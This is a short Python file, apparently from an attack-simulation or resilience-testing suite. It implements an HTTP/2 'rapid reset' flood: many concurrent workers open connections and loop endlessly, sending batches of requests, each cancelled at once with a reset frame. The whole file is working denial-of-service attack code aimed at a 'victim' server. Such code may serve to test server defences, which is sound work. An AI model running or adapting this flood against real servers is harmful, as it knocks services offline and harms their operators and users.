"""Requests of HTTP/2 that are cancelled with the next frame, as fast as the server takes them."""

import wire


def attack(victim):
    def flood(_):
        connection = victim.http2()
        try:
            while True:
                asked = [connection.request("/fetch/good/hit-0", last=999_999) for _ in range(50)]
                connection.send(b"".join(frame + wire.reset(stream) for stream, frame in asked))
                connection.drain()
        finally:
            connection.close()

    wire.crowd(2 * victim.scale, flood)
    victim.begun()
